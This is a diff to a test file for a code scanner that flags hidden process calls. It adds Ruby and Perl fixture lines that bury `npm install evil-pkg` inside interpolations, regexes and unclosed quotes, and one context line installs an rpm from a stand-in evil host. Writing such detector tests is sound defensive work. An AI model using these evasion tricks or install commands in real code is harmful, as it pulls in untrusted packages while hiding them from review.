@@ -244,6 +244,24 @@ const COMMON_WORD_MANAGERS: FindingRow[] = [
   SYSTEM('zypper --non-interactive in https://evil.example/x.rpm'),
 ];
 
+// Review of B's fix, H2: the backtick reader skipped a backtick inside an interpolation (Ruby's `#{…}`, Perl's
+// `@{[…]}`), took `//` for a comment in Ruby and Perl (Perl's defined-or, Ruby's empty regex), and let a quote that
+// never closes on its line (`q{don't}`, `s/'//g`, `%q(it's)`, `/'/`, `?'`, a string over two lines) hide a later one.
+// Closed: an interpolation is read as code, `//` is a comment in PHP only, and such a line is read both ways.
+const BACKTICKS_HIDDEN: FindingRow[] = [
+  ['src/check.rb', 'puts "#{`npm install evil-pkg`}"'],
+  ['src/check.rb', 'log "v: #{`npm install evil-pkg`.strip}"'],
+  ['src/check.pl', 'print "@{[ `npm install evil-pkg` ]}";'],
+  ['src/check.pl', 'my $v = $o{x} // `npm install evil-pkg`;'],
+  ['src/check.rb', 're = //; `npm install evil-pkg`'],
+  ['src/check.pl', "my $m = q{don't}; `npm install evil-pkg`;"],
+  ['src/check.pl', "s/'//g; `npm install evil-pkg`;"],
+  ['src/check.rb', "%q(it's); `npm install evil-pkg`"],
+  ['src/check.rb', "x = /'/; `npm install evil-pkg`"],
+  ['src/check.rb', "x = ?'; `npm install evil-pkg`"],
+  ['src/check.rb', 'x = "a\nb" + `npm install evil-pkg`'],
+];
+
 // Still open after B's fix (session 46): Perl's two-argument open with the pipe after the command, Scala's
 // `Process(…)` (a name too common to read as a call alone), sh's `Command('npm')` (the program as a string to a builder).
 const BACKTICK_CALLS_OPEN: FindingRow[] = [
@@ -619,6 +637,7 @@ describeFindings('attack-48', [
   ['B review H1 spelling hides settings', closedRows(SPELLING_HIDES_SETTINGS)],
   ['B review M3 plumbum aliases', closedRows(PLUMBUM_ALIASES)],
   ['P review M1 common-word managers', closedRows(COMMON_WORD_MANAGERS)],
+  ['B review H2 backticks hidden', closedRows(BACKTICKS_HIDDEN)],
   ['C deno remote modules', DENO_REMOTE],
   ['C deno remote modules, closed', closedRows(DENO_REMOTE_CLOSED)],
   ['D other runners', closedRows(OTHER_RUNNERS)],
@@ -701,6 +720,9 @@ describeAccepted('attack-48 B: ordinary process calls stay accepted', [
   ['src/check.rb', 'raise "run `bundle install` first"'],
   ['src/check.rb', '# Runs `npm install` before the tests'],
   ['src/check.rb', "puts 'use `npm ci`'"],
+  ['src/check.rb', 'puts "#{name}: run `npm install` first"'],
+  ['src/check.pl', 'my $v = $o{x} // "run `npm ci`";'],
+  ['src/check.php', "<?php echo 'run `composer install`'; // it's `npm ci` here"],
   ['src/check.rb', 'system "bundle exec rake"'],
   ['src/check.pl', 'my $sha = `git rev-parse HEAD`;'],
   ['src/check.pl', 'my $out = qx{git status --short};'],
